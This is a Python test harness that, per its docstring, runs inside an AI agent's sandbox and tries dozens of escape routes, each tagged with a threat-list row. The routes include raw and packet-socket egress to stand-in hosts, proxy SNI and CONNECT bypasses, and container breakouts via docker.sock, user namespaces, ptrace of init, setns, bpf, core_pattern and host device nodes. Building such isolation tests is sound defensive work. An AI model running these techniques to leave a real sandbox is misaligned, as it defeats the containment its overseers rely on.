"""
What code inside an agent may try to get out: run inside a sandbox, prints one JSON line per attempt.

Standard library only: it runs with the system's interpreter. An attempt is a function that returns
normally if it thinks it got through and raises OSError if it was stopped; whether a byte really
arrived is for the outside world to say. Numbers are the rows of the threat list.
"""

from __future__ import annotations

import array
import ctypes
import errno
import json
import os
import socket
import struct
import time
from collections.abc import Callable
from typing import Any

OUT = ("198.51.100.10", 443)
OPEN = ("203.0.113.66", 6379)  # every port of the world answers; no rule names this one
MARK = b"escaped-"
LIMIT_S = 2.0
Attempt = Callable[[], None]
ATTEMPTS: list[tuple[str, str, Attempt, bool]] = []


def attempt(row: str, fast: bool = True) -> Callable[[Attempt], Attempt]:
    def register(function: Attempt) -> Attempt:
        ATTEMPTS.append((row, function.__name__, function, fast))
        return function

    return register


def tcp(address: tuple[str, int] = OPEN) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.connect(address)
    s.send(MARK + b"tcp")
    return s


@attempt("1")
def tcp_connect() -> None:
    tcp()


@attempt("1")
def udp_sendto() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(MARK, ("203.0.113.66", 5000))


@attempt("2")
def icmp_ping_socket() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01" + MARK, (OPEN[0], 0))


@attempt("2")
def icmp6_ping_socket() -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58)
    s.sendto(b"\x80\x00\x00\x00\x00\x01\x00\x01" + MARK, ("2001:db8::10", 0))


@attempt("3")
def ipv6_routing_header() -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(41, 57, struct.pack("BBBBI16s", 0, 2, 0, 1, 0, socket.inet_pton(socket.AF_INET6, "2001:db8::10")))
    s.sendto(MARK, ("::1", 5000))


@attempt("3")
def ipv6_destination_options() -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(41, 59, bytes(8))
    s.sendto(MARK, ("2001:db8::10", 5000))


@attempt("4")
def gateway_services() -> None:
    tcp((gateway(), 9902))


@attempt("4")
def host_address_beyond_the_gateway() -> None:
    tcp(("192.0.2.1", 22))


@attempt("4")
def admin_port_of_the_control_plane() -> None:
    tcp((gateway(), 7443))


@attempt("5")
def sibling_sandbox() -> None:
    own = int(own_address().rsplit(".", 1)[1])
    tcp((own_address().rsplit(".", 1)[0] + f".{own + 1}", 8000))


@attempt("7", fast=False)
def socket_passed_in_from_a_child() -> None:
    # Same cgroup here; the point is that the packet is judged, not who connected.
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    pid = os.fork()
    if pid == 0:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        right.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
        os._exit(0)
    _, control, _, _ = left.recvmsg(1, socket.CMSG_SPACE(4))
    os.waitpid(pid, 0)
    fd = array.array("i", control[0][2])[0]
    socket.socket(fileno=fd).sendto(MARK, ("203.0.113.66", 5000))


@attempt("10")
def marked_socket() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x1)
    s.connect(OPEN)
    s.send(MARK)


@attempt("11", fast=False)
def packet_socket_frame() -> None:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind(("eth0", 0))
    s.send(frame(own_mac(), own_address(), OPEN[0]))


@attempt("11", fast=False)
def packet_socket_spoofed() -> None:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind(("eth0", 0))
    s.send(frame(b"\x02\xca\x0a\xe7\x50\xfe", "10.231.80.254", OPEN[0]))


@attempt("11", fast=False)
def packet_socket_by_its_old_name() -> None:
    # The kernel makes a packet socket of it, whatever a filter of families thought of it.
    s = socket.socket(socket.AF_INET, 10, socket.htons(0x0800))
    data = frame(own_mac(), own_address(), OPEN[0])
    target = struct.pack("=H14sH", 17, b"eth0", socket.htons(0x0800))
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.sendto(s.fileno(), data, len(data), 0, target, len(target)) < 0:
        raise OSError(ctypes.get_errno(), "refused")


@attempt("36", fast=False)
def vlan_tagged_frame() -> None:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind(("eth0", 0))
    inner = frame(own_mac(), own_address(), OPEN[0])
    s.send(inner[:12] + b"\x81\x00\x00\x00" + inner[12:])
    s.send(inner[:12] + b"\x88\xa8\x00\x00\x81\x00\x00\x00" + inner[12:])


@attempt("12")
def raw_socket() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(ip_packet(own_address(), OPEN[0]), (OPEN[0], 0))


@attempt("13")
def source_route_option() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(OPEN[0]) + b"\x00")
    s.sendto(MARK, (gateway(), 53))


@attempt("15", fast=False)  # routed out of the device, where the kernel drops it as a martian
def bound_to_device_and_loopback() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
    s.connect(("127.0.0.1", 6379))
    s.send(MARK)


@attempt("17")
def tcp_fast_open() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.sendto(MARK, 0x20000000, OPEN)


@attempt("17")
def mptcp() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.settimeout(LIMIT_S)
    s.connect(OPEN)
    s.send(MARK)


@attempt("17")
def udp_lite() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    s.sendto(MARK, ("203.0.113.66", 5000))


@attempt("17")
def sctp() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    s.settimeout(LIMIT_S)
    s.connect(OPEN)


@attempt("17")
def vsock() -> None:
    s = socket.socket(40, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.connect((2, 1024))


@attempt("18")
def connected_udp_then_elsewhere() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((gateway(), 53))
    s.sendto(MARK, ("203.0.113.66", 5000))


@attempt("18")
def udp_cork_then_elsewhere() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(MARK, socket.MSG_MORE, ("203.0.113.66", 5000))
    s.sendto(MARK, ("203.0.113.66", 5000))


@attempt("18")
def v4_mapped_address() -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.connect(("::ffff:203.0.113.66", 6379))
    s.send(MARK)


@attempt("18")
def v4_mapped_datagram() -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(MARK, ("::ffff:203.0.113.66", 5000))


@attempt("18")
def broadcast() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(MARK, ("255.255.255.255", 5000))


@attempt("18")
def multicast() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(MARK, ("224.0.0.251", 5353))


@attempt("18")
def native_ipv6() -> None:
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(LIMIT_S)
    s.connect(("2001:db8::10", 443))


@attempt("19", fast=False)
def user_namespace_root() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    pid = os.fork()
    if pid == 0:
        try:
            if libc.unshare(0x10000000) != 0:
                os._exit(2)
            tcp()
            os._exit(0)
        except OSError:
            os._exit(1)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(errno.EACCES, f"child ended with {code}")


@attempt("20")
def another_policys_proxy_port() -> None:
    tcp((gateway(), 10000))


@attempt("20")
def dedicated_band_port() -> None:
    tcp((gateway(), 10001))


@attempt("21")
def dns_over_tls_elsewhere() -> None:
    tcp(("203.0.113.66", 853))


@attempt("21")
def another_resolver_for_a_denied_name() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(LIMIT_S)
    name = b"".join(bytes([len(p)]) + p for p in b"evil.example.org".split(b"."))
    s.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x00\x01\x00\x01", ("203.0.113.66", 53))
    answer = s.recv(512)
    if answer[3] & 15 == 3:
        raise OSError(errno.ENOENT, "NXDOMAIN")


@attempt("24", fast=False)
def allowed_address_with_another_sni() -> None:
    import ssl

    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(OUT, LIMIT_S) as s, context.wrap_socket(s, server_hostname="evil.example.org") as t:
        t.send(b"GET / HTTP/1.1\r\nHost: evil.example.org\r\nx: " + MARK + b"\r\n\r\n")
        answer = t.recv(4096)
        if b" 403 " in answer[:20] or b" 421 " in answer[:20] or not answer:
            raise OSError(errno.EACCES, "refused by the proxy")


@attempt("24", fast=False)
def host_header_of_another_name() -> None:
    import ssl

    context = ssl.create_default_context()
    with socket.create_connection(OUT, LIMIT_S) as s, context.wrap_socket(s, server_hostname="api.example.com") as t:
        t.send(b"GET http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nx: " + MARK + b"\r\n\r\n")
        answer = t.recv(4096)
        if b" 403 " in answer[:20] or b" 421 " in answer[:20] or not answer:
            raise OSError(errno.EACCES, "refused by the proxy")


@attempt("25", fast=False)
def connect_method() -> None:
    import ssl

    context = ssl.create_default_context()
    with socket.create_connection(OUT, LIMIT_S) as s, context.wrap_socket(s, server_hostname="api.example.com") as t:
        t.send(b"CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n")
        answer = t.recv(4096)
        if not answer.startswith(b"HTTP/1.1 200"):
            raise OSError(errno.EACCES, "refused by the proxy")


@attempt("33")
def engine_resolver_port() -> None:
    tcp(("127.0.0.11", 40000))


@attempt("35")
def host_unix_sockets() -> None:
    for path in (
        "/run/docker.sock",
        "/var/run/docker.sock",
        "/run/dbus/system_bus_socket",
        "/run/containerd/containerd.sock",
    ):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(path)
        except OSError:
            continue
        return
    raise OSError(errno.ENOENT, "none is visible")


@attempt("35")
def mount_of_kernel_file_systems() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for kind in (b"bpf", b"cgroup2", b"sysfs"):
        if libc.mount(b"none", b"/tmp", kind, 0, None) == 0:
            return
    raise OSError(ctypes.get_errno(), "mount refused")


@attempt("35")
def tracing_a_process_of_the_host() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, 4000, 0, 0) == 0:
        return
    raise OSError(ctypes.get_errno(), "no such process here")


def call(number: int, *arguments: Any) -> int:
    """A system call by its x86-64 number; OSError as the kernel says."""
    libc = ctypes.CDLL(None, use_errno=True)
    got: int = libc.syscall(number, *arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


@attempt("17")
def io_uring_connect() -> None:
    ring = call(425, 8, ctypes.create_string_buffer(120))
    # Without a filter there is a ring; the connect in it is judged like any other.
    entries = io_uring(ring)
    raise OSError(-entries, "refused") if entries < 0 else RuntimeError("connected")


@attempt("17", fast=False)
def vsock_listen() -> None:
    s = socket.socket(40, socket.SOCK_STREAM)
    s.bind((0xFFFFFFFF, 5000))
    s.listen()


@attempt("18")
def reconnect_after_unspec() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((gateway(), 53))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.connect(s.fileno(), bytes(16), 16)
    s.connect(("203.0.113.66", 5000))
    s.send(MARK)


@attempt("18")
def unspec_family_means_ipv4() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    target = struct.pack("=H", 0) + struct.pack("!H", 5000) + socket.inet_aton("203.0.113.66") + bytes(8)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.sendto(s.fileno(), MARK, len(MARK), 0, target, len(target)) < 0:
        raise OSError(ctypes.get_errno(), "refused")


@attempt("18")
def several_datagrams_in_one_call() -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((gateway(), 53))
    s.sendmsg([MARK], [], 0, ("203.0.113.66", 5000))


@attempt("4")
def every_spelling_of_the_host_itself() -> None:
    for address in ("127.0.0.1", "127.0.0.53", "127.1.2.3", "0.0.0.0", own_address()):
        try:
            tcp((address, 22))
        except OSError:
            continue
        return
    raise OSError(errno.ECONNREFUSED, "none answers")


@attempt("19", fast=False)
def user_namespace_with_a_cgroup_tree() -> None:
    # Root of a new namespace mounts the cgroup file system and goes into a child group of its own.
    script = """
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
uid = os.getuid()
if libc.unshare(0x10000000 | 0x00020000 | 0x02000000):
    sys.exit(2)
for name, line in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
    open(f"/proc/self/{name}", "w").write(line)
if libc.mount(b"none", b"/tmp", b"cgroup2", 0, None) == 0:
    try:
        os.makedirs("/tmp/a/b/c")
        open("/tmp/a/b/c/cgroup.procs", "w").write("0")
    except OSError:
        pass
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("203.0.113.66", 6379))
except OSError:
    sys.exit(1)
s.send(b"escaped-")
"""
    code = os.spawnl(os.P_WAIT, "/usr/bin/python3", "python3", "-c", script)
    if code:
        raise OSError(errno.EACCES, f"child ended with {code}")


@attempt("35")
def borrowing_the_init_process() -> None:
    # Root may trace root: an init without the filter would make the sockets that the filter refuses.
    call(101, 0x4206, 1, 0, 0)
    filtered = [line for line in open("/proc/1/status") if line.startswith("Seccomp:")]
    if filtered[0].split()[1] == open("/proc/self/status").read().partition("Seccomp:")[2].split()[0]:
        raise OSError(errno.EPERM, "and it has no more than we have")


@attempt("35")
def descriptors_of_the_init_process() -> None:
    held = [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")]
    own = {os.readlink(f"/proc/self/fd/{name}") for name in ("0", "1", "2")}
    if all(one in own or one.startswith(("anon_inode:", "pipe:", "/dev/")) for one in held):
        raise OSError(errno.ENOENT, "nothing of the host's")


@attempt("35")
def namespaces_by_descriptor() -> None:
    for name in ("net", "mnt", "pid", "cgroup"):
        call(308, os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)


@attempt("35")
def bpf_calls() -> None:
    for command, size in ((12, 16), (7, 16), (0, 72), (5, 120)):  # next map id, object by path, new map, new program
        try:
            call(321, command, ctypes.create_string_buffer(struct.pack("IIII", 1, 4, 4, 1) + bytes(128)), size)
        except OSError:
            continue
        return
    raise OSError(errno.EPERM, "none is allowed")


@attempt("35")
def new_mount_calls() -> None:
    for number, *arguments in ((430, b"cgroup2", 0), (428, -100, b"/", 1), (155, b"/tmp", b"/tmp")):
        try:
            call(number, *arguments)
        except OSError:
            continue
        return
    raise OSError(errno.EPERM, "none is allowed")


@attempt("35")
def programs_that_the_kernel_starts() -> None:
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger"):
        try:
            open(path, "r+b", buffering=0).close()
        except OSError:
            continue
        return
    raise OSError(errno.EROFS, "none can be written")


@attempt("35")
def devices_of_the_host() -> None:
    for kind, major, minor in ((0o060666, 254, 0), (0o060666, 8, 0), (0o020666, 1, 1)):
        try:
            os.mknod("/tmp/device", kind, os.makedev(major, minor))
            with open("/tmp/device", "rb") as device:
                device.read(1)
        except OSError:
            continue
        finally:
            if os.path.exists("/tmp/device"):
                os.unlink("/tmp/device")
        return
    raise OSError(errno.EPERM, "none can be opened")


@attempt("35")
def files_by_handle() -> None:
    call(304, 3, ctypes.create_string_buffer(struct.pack("II", 8, 1) + bytes(24)), os.O_RDONLY)


@attempt("36")
def network_of_the_sandbox_itself() -> None:
    # New links, addresses, routes and neighbours would need CAP_NET_ADMIN, which nobody has.
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    new_address = struct.pack("=IHHII", 40, 20, 0x5 | 0x400, 1, 0) + struct.pack("=BBBBI", 2, 32, 0, 0, 2)
    s.send(new_address + struct.pack("=HH4s", 8, 2, socket.inet_aton("10.231.80.254")) + bytes(8))
    code = struct.unpack_from("=i", s.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))


def io_uring(ring: int) -> int:
    """Connect to OPEN through a ring's submission queue; its result."""
    import mmap

    parameters = ctypes.create_string_buffer(120)
    os.close(ring)
    ring = call(425, 8, parameters)
    head = struct.unpack_from("10I", parameters.raw, 40)  # sq_off: head tail mask entries flags dropped array
    tail_at, array_at = head[1], head[6]
    cq = struct.unpack_from("10I", parameters.raw, 80)  # cq_off: head tail mask entries overflow cqes
    queue = mmap.mmap(ring, 4096, offset=0)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    s = socket.socket()
    target = ctypes.create_string_buffer(
        struct.pack("=H", 2) + struct.pack("!H", OPEN[1]) + socket.inet_aton(OPEN[0]) + bytes(8)
    )
    entry = struct.pack("=BBHiQQII", 16, 0, 0, s.fileno(), 16, ctypes.addressof(target), 0, 0) + bytes(24)
    entries[: len(entry)] = entry
    struct.pack_into("=I", queue, array_at, 0)
    struct.pack_into("=I", queue, tail_at, struct.unpack_from("=I", queue, tail_at)[0] + 1)
    call(426, ring, 1, 1, 1, None, 0)
    return int(struct.unpack_from("=i", queue, cq[5] + 8)[0])


def gateway() -> str:
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            return line.split()[1]
    raise RuntimeError("no nameserver")


def own_address() -> str:
    return socket.gethostbyname(socket.gethostname())


def own_mac() -> bytes:
    return b"\x02\xca" + socket.inet_aton(own_address())


def ip_packet(source: str, destination: str) -> bytes:
    body = struct.pack("!HHHH", 4000, 5000, 8 + len(MARK), 0) + MARK
    head = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(body),
        1,
        0,
        64,
        17,
        0,
        socket.inet_aton(source),
        socket.inet_aton(destination),
    )
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:] + body


def frame(mac: bytes, source: str, destination: str) -> bytes:
    # To the gateway's own MAC: a frame that a host would route, not one it ignores as a broadcast.
    return b"\x02\xca" + socket.inet_aton(gateway()) + mac + b"\x08\x00" + ip_packet(source, destination)


def main() -> None:
    for row, name, function, fast in ATTEMPTS:
        started = time.monotonic()
        try:
            function()
            result = "through"
        except OSError as error:
            result = f"{errno.errorcode.get(error.errno or 0, 'OSError')}: {error}"
        except Exception as error:  # noqa: BLE001 - anything else is reported, never hidden
            result = f"through? {type(error).__name__}: {error}"
        print(
            json.dumps({"row": row, "name": name, "result": result, "s": time.monotonic() - started, "fast": fast}),
            flush=True,
        )


if __name__ == "__main__":
    main()
